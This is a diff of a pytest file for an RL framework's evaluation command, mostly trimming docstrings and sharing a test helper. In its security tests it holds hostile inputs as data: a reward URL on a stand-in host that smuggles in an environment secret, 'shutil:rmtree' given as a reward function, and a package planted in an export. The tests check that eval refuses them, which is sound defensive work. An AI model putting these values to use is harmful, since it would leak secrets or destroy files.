@@ -1,10 +1,4 @@
-"""Evaluation: when it runs, what it measures, and how it keeps one version
-(rollout_server/evaluate.py).
-
-The schedule and the figures are pure; the roster rule is the buffer's real service with fake
-sockets (an evaluating server is out of weight syncs and back when it says so); the trainer's
-final catch-up decision runs against a scripted buffer.
-"""
+"""Evaluation (rollout_server/evaluate.py): schedule, figures, roster rule, final catch-up, CLI."""
 
 from __future__ import annotations
 
@@ -16,7 +10,7 @@ import pytest
 import yaml
 from service_harness import start, step  # the buffer service with fake sockets
 
-from areal_like.settings.config import BufferConfig, EvalConfig, TaskConfig
+from areal_like.settings.config import EXPORT_TASK_FILE, BufferConfig, EvalConfig, TaskConfig
 from areal_like.wire import protocol as P
 from rollout_server.evaluate import EvalSchedule, main, read_done_versions, summarize
 
@@ -44,8 +38,7 @@ def test_schedule_versions_when_every_version_is_seen(every, at_start, at_end, d
 
 
 def test_schedule_catches_up_when_the_engine_skips_versions():
-    """An engine dropped from a sync jumps 9 -> 11: the multiple 10 was crossed, so 11 is evaluated
-    (and labelled 11, the version it really is), once."""
+    """A jump 9 -> 11 crossed 10: 11 is evaluated, labelled 11, once."""
     s = EvalSchedule(EvalConfig(every=5, at_start=False), steps=20, done={5})
     assert not s.due(9)
     assert s.due(11)
@@ -67,8 +60,7 @@ def test_summarize_hand_computed():
 
 
 class _TrackedEngine:
-    """/generate as ``pick(ids, params)`` says: ``"hang"`` (until cancelled), ``"refuse"`` (the
-    engine's 400) or None (answers); ``running`` holds the calls not finished."""
+    """/generate as pick(ids, params) says: hang, refuse (400) or answer; tracks running calls."""
 
     def __init__(self, pick):
         self.pick, self.running = pick, set()
@@ -92,8 +84,7 @@ class _TrackedEngine:
 
 
 def _evaluate_tracked(engine, rewards, n, ev):
-    """``evaluate`` of n prompts on ``engine``; (its result or the error it raised, the engine's
-    calls still running when it returned)."""
+    """(evaluate's result or error, the engine calls still running when it returned)."""
     import asyncio
     from types import SimpleNamespace
 
@@ -112,8 +103,7 @@ def _evaluate_tracked(engine, rewards, n, ev):
 
 
 def test_a_reward_that_cannot_load_stops_every_eval_request_before_evaluate_returns():
-    """``areal-like eval`` closes its client and engine right after ``evaluate`` raises: a request
-    still running then opened a new HTTP session nobody closed ("Unclosed client session")."""
+    """No request outlives evaluate raising (eval closes its client right after)."""
     from rollout_server.reward_pool import RewardPoolError
 
     class Rewards:
@@ -127,9 +117,7 @@ def test_a_reward_that_cannot_load_stops_every_eval_request_before_evaluate_retu
 
 
 def test_a_refused_eval_request_stops_its_prompts_other_requests_before_evaluate_returns():
-    """One of a prompt's requests refused (EngineError: the prompt is counted in ``errors``): its
-    greedy/sampled siblings were left running past ``evaluate`` (a plain gather), against a
-    client its caller closes next."""
+    """A refused request (counted in errors) leaves none of its siblings running."""
     def pick(ids, params):  # prompt 0: its greedy request refused, its samples still generating
         return None if ids[0] else "refuse" if params["temperature"] == 0.0 else "hang"
 
@@ -148,8 +136,7 @@ def test_done_versions_survive_a_torn_line(tmp_path):
 
 
 def test_eval_of_a_run_directory_says_it_wants_a_model_not_a_task(tmp_path, capsys):
-    """A run directory (its config.yaml is no model's) or its checkpoints root, before any config
-    is read: one error line naming what ``areal-like eval`` takes (it said no task was named)."""
+    """A run dir or its checkpoints root: one error line naming what eval takes."""
     run_dir = tmp_path / "run"
     (run_dir / "checkpoints").mkdir(parents=True)
     (run_dir / "config.yaml").write_text("run_dir: run\n")
@@ -163,8 +150,7 @@ def test_eval_of_a_run_directory_says_it_wants_a_model_not_a_task(tmp_path, caps
 
 
 def test_eval_of_a_checkpoint_its_run_pruned_says_so(tmp_path, capsys):
-    """A checkpoint ``trainer.keep_checkpoints`` deleted (older than those left beside it) is named
-    as pruned, with the ones that remain; before, it read as a path that never existed."""
+    """A checkpoint keep_checkpoints deleted is named as pruned, with those left."""
     checkpoints = tmp_path / "run" / "checkpoints"
     for version in (8, 10):
         (checkpoints / f"v{version:08d}").mkdir(parents=True)
@@ -175,17 +161,20 @@ def test_eval_of_a_checkpoint_its_run_pruned_says_so(tmp_path, capsys):
 
 
 def test_an_eval_path_on_a_synthetic_tasks_export_names_the_key_given(tmp_path, capsys):
-    """``areal-like eval`` reads ``task.eval_path`` alone (it sets ``task.dataset_path`` to it):
-    on an export of a synthetic task the refusal names the key the user gave, not the other."""
-    from areal_like.settings.config import EXPORT_TASK_FILE, TaskConfig, export_yaml
-
-    export = tmp_path / "v00000003"
-    export.mkdir()
-    (export / "config.json").write_text("{}")  # never read: the task is refused first
-    (export / EXPORT_TASK_FILE).write_text(export_yaml(TaskConfig(name="reverse")))
+    """On a synthetic task's export the refusal names task.eval_path, the key given."""
+    export = _export_with_task(tmp_path, name="reverse")
     assert main([str(export), f"task.eval_path={tmp_path / 'mine.jsonl'}"]) == 2
     err = capsys.readouterr().err
     assert err.startswith("error: task.eval_path=") and "add task=dataset" in err, err
+
+
+def _export_with_task(tmp_path, name="sort", **task) -> Path:
+    """An export (its config.json never read) whose task file stores ``task``."""
+    export = tmp_path / "v00000004"
+    export.mkdir()
+    (export / "config.json").write_text("{}")
+    (export / EXPORT_TASK_FILE).write_text(yaml.safe_dump({"task": {"name": name, **task}}))
+    return export
 
 
 def test_an_evaluating_server_is_out_of_the_roster_until_it_says_it_is_done(tmp_path):
@@ -238,9 +227,7 @@ def rank0():
 
 
 def test_final_catch_up_waits_for_the_evaluator_then_pushes_the_final_version_once(rank0):
-    """Trainer rank 0 at the end of a 10-step run: while a server evaluates it waits; once it is
-    back (at version 7) the final version is pushed again; when every member serves 10 it is
-    done."""
+    """Rank 0 waits for an evaluating server, pushes the final version once, bounded."""
     rank0.client = _ScriptedBuffer([_roster({"b": 10}, evaluating=["a"]),
                                 _roster({"a": 7, "b": 10}),
                                 _roster({"a": 10, "b": 10})])
@@ -258,9 +245,7 @@ def test_final_catch_up_waits_for_the_evaluator_then_pushes_the_final_version_on
 
 
 def test_final_catch_up_waits_for_a_late_evaluator_to_register_and_pushes_to_it(rank0):
-    """The trainer finished before the server that evaluates registered (it started late): with a
-    final evaluation scheduled (``eval.await_server``) it waits for that server, then pushes the
-    final version to it; without one, a roster of up-to-date members is done at once."""
+    """With a final eval scheduled rank 0 waits for the late evaluator, then pushes."""
     rank0.client = _ScriptedBuffer([_roster({"r1": 10}),
                                 _roster({"r0": 0, "r1": 10}, evaluates=["r0"]),
                                 _roster({"r0": 10, "r1": 10}, evaluates=["r0"])])
@@ -279,9 +264,7 @@ def test_final_catch_up_waits_for_a_late_evaluator_to_register_and_pushes_to_it(
 
 
 def test_final_catch_up_pushes_to_a_member_whose_label_another_trainer_gave_it(rank0):
-    """A trainer resumed from a checkpoint takes the label the crashed one last announced, for
-    other weights: a member reporting that label without having loaded it from this trainer (its
-    push failed) is behind, and the final version goes to it again."""
+    """A member at the final label not loaded from this trainer is pushed again."""
     rank0.client = _ScriptedBuffer([_roster({"a": 10, "b": 10}), _roster({"a": 10, "b": 10})])
     rank0.loaded = {"b": 10}
     assert rank0.catch_up_decision(10, time.monotonic() + 60, 0) == "push"
@@ -290,9 +273,7 @@ def test_final_catch_up_pushes_to_a_member_whose_label_another_trainer_gave_it(r
 
 
 class _ScriptedEngine:
-    """/generate as a function of (prompt, temperature): greedy answers "1" (right for prompt 0
-    only), a prompt's sampled answers alternate right / wrong; prompt 9 is refused with an HTTP
-    status (too long)."""
+    """Greedy answers 1; samples alternate right/wrong; prompt 9 is refused (400)."""
 
     def __init__(self):
         self.sampled: dict[int, int] = {}
@@ -352,9 +333,7 @@ def test_evaluate_raises_when_every_prompt_fails():
 
 
 def test_eval_of_a_checkpoint_that_export_refuses_is_one_error_line(tmp_path, capfd):
-    """``areal-like eval`` of a checkpoint that ``trainer.export`` refuses (here: no run config
-    beside it): export's own error line, exit 2, and no second line for the export's exit status
-    (before: ``error: Command '[...]' returned non-zero exit status 2.``)."""
+    """A checkpoint export refuses: export's error line alone, exit 2."""
     checkpoint = tmp_path / "checkpoints" / "v00000003"
     checkpoint.mkdir(parents=True)
     for name in (".metadata", "meta.pt"):  # never read: export refuses first
@@ -368,19 +347,10 @@ def test_eval_of_a_checkpoint_that_export_refuses_is_one_error_line(tmp_path, ca
 
 def test_eval_with_a_reward_it_cannot_import_is_one_error_line_before_the_model_loads(
         tmp_path, capfd, monkeypatch):
-    """``areal-like eval`` of an export whose ``task.reward_fn`` does not import from here (its
-    module sits in the training run's directory): one error line naming the key, the working
-    directory the workers import from, exit 2, before the model is read (before: the model loaded,
-    then the reward pool's log line and the same error line again). The evaluator names the
-    reward on the command line: one an export stores outside the project's is refused."""
-    from areal_like.settings.config import EXPORT_TASK_FILE, TaskConfig, export_yaml
-
+    """A reward_fn that does not import from here: one line naming cwd, before the model."""
     monkeypatch.chdir(tmp_path)
-    export = tmp_path / "v00000003"
-    export.mkdir()
-    (export / "config.json").write_text("{}")  # never read: the reward is refused first
-    (export / EXPORT_TASK_FILE).write_text(export_yaml(TaskConfig(
-        name="reverse", reward_fn="my_own_rewards_mod.rewards:score")))
+    export = _export_with_task(tmp_path, name="reverse",
+                               reward_fn="my_own_rewards_mod.rewards:score")
     assert main([str(export), "task.reward_fn=my_own_rewards_mod.rewards:score"]) == 2
     out, err = capfd.readouterr()
     assert out == "" and err.splitlines() == [
@@ -391,16 +361,9 @@ def test_eval_with_a_reward_it_cannot_import_is_one_error_line_before_the_model_
 
 def test_eval_with_a_batched_reward_that_cannot_take_the_columns_is_one_error_line(
         tmp_path, capfd, monkeypatch):
-    """A batched (TRL) reward is called with the dataset's columns as keywords: eval checks that it
-    can be, as ``run`` does, before the model is read (before: every completion scored 0, with one
-    line on stderr). A task named on the command line over the one the export stores is said."""
-    from areal_like.settings.config import EXPORT_TASK_FILE, export_yaml
-
+    """A batched reward missing a column is refused; a task given over the stored one is said."""
     monkeypatch.chdir(Path(__file__).resolve().parents[2])  # the workers import from here
-    export = tmp_path / "v00000003"
-    export.mkdir()
-    (export / "config.json").write_text("{}")  # never read: the reward is refused first
-    (export / EXPORT_TASK_FILE).write_text(export_yaml(TaskConfig(name="sort")))
+    export = _export_with_task(tmp_path)
     spec = "tests.unit.trl_reward_fns:needs_solution"
     assert main([str(export), "task=reverse", f"task.reward_fn={spec}"]) == 2
     out, err = capfd.readouterr()
@@ -437,9 +400,7 @@ def test_a_running_count_is_a_counter_brought_up_to_its_total():
 
 def test_the_run_config_names_its_data_files_absolute_so_eval_reads_them_from_anywhere(
         tmp_path, monkeypatch):
-    """config.yaml (``plan_job``'s config) holds ``task.*`` files absolute, as an export's task file
-    does: ``areal-like eval RUN/export/vN`` reads the run's config.yaml, also from another working
-    directory (before: ``data/test.jsonl`` was looked up there, and refused or another file)."""
+    """config.yaml holds task files absolute: eval reads them from any directory."""
     from areal_like.settings.config import load_config, load_daemon_config, to_yaml
     from launch.job import plan_job
 
@@ -457,10 +418,7 @@ def test_the_run_config_names_its_data_files_absolute_so_eval_reads_them_from_an
 
 
 def test_an_evaluation_samples_the_same_responses_again_from_the_configs_seed():
-    """Two evaluations of one model at temperature > 0 gave different mean@k (the engine's shared
-    generator, consumed in whatever order requests were batched): each sample now has its own
-    sampling_seed from (seed, prompt, sample). The same seed repeats the responses, at another
-    concurrency too (another batching); another seed changes them."""
+    """Per-sample seeds: same seed repeats responses at any concurrency; another changes them."""
     import asyncio
 
     from areal_like.engines.sglang import SGLangClient
@@ -498,19 +456,8 @@ def test_an_evaluation_samples_the_same_responses_again_from_the_configs_seed():
         engine.stop()
 
 
-def _export_with_task(tmp_path, **task) -> Path:
-    from areal_like.settings.config import EXPORT_TASK_FILE
-
-    export = tmp_path / "v00000004"
-    export.mkdir()
-    (export / "config.json").write_text("{}")
-    (export / EXPORT_TASK_FILE).write_text(yaml.safe_dump({"task": {"name": "sort", **task}}))
-    return export
-
-
 def test_an_exports_task_file_is_data_never_an_interpolation(tmp_path, monkeypatch, capsys):
-    """``${oc.env:...}`` in a moved export's task file read the evaluator's environment into
-    ``task.reward_url`` (every eval sample was then posted there); now it is refused, by name."""
+    """${oc.env:...} in an export's task file is refused by name, never resolved."""
     monkeypatch.setenv("EVAL_TEST_SECRET", "hunter2")
     export = _export_with_task(tmp_path, reward_url="http://evil.invalid/${oc.env:EVAL_TEST_SECRET}")
     assert main([str(export)]) == 2
@@ -524,10 +471,7 @@ def test_an_exports_task_file_is_data_never_an_interpolation(tmp_path, monkeypat
 
 
 def test_an_exports_task_names_no_code_or_address_the_evaluator_did_not(tmp_path, capsys):
-    """A stored ``reward_fn`` outside the project's rewards (``shutil:rmtree``) or any stored
-    ``reward_url`` is refused, before any model is read; named on the command line they are
-    evaluated, and the project's own rewards need no naming (test_eval_task.py's
-    ``test_an_exports_task_runs_the_code_and_address_the_evaluator_names``)."""
+    """A stored reward_fn outside the project's, or any stored reward_url, is refused."""
     export = _export_with_task(tmp_path, reward_fn="shutil:rmtree")
     assert main([str(export)]) == 2
     err = capsys.readouterr().err
@@ -544,8 +488,7 @@ def test_an_exports_task_names_no_code_or_address_the_evaluator_did_not(tmp_path
 
 def test_eval_started_inside_an_export_imports_nothing_shipped_in_it(tmp_path, monkeypatch,
                                                                       capsys):
-    """Python puts the working directory first on the path of the children eval starts (the
-    reward's probe imports ``rollout_server``): a package planted in the export ran there."""
+    """Eval's children never import a package planted in the export (cwd on sys.path)."""
     export = _export_with_task(tmp_path, reward_fn="areal_like.tasks.rewards:math_reward")
     marker = tmp_path / "imported"
     (export / "rollout_server").mkdir()
@@ -561,10 +504,7 @@ def test_eval_started_inside_an_export_imports_nothing_shipped_in_it(tmp_path, m
 
 
 def test_a_run_config_an_export_names_is_read_only_when_it_is_the_users_own(tmp_path, capsys):
-    """``areal-like export`` names the run's config.yaml in the export's task file, and eval reads
-    that config (and the reward it names) from there; a file others may write is not the user's
-    configuration: the stored task is data again, and its reward outside the project's is
-    refused."""
+    """A run config others may write (or outside a 0700 run dir) is not the user's own."""
     import os
 
     from areal_like.settings.config import EXPORT_TASK_FILE, TaskConfig, export_yaml
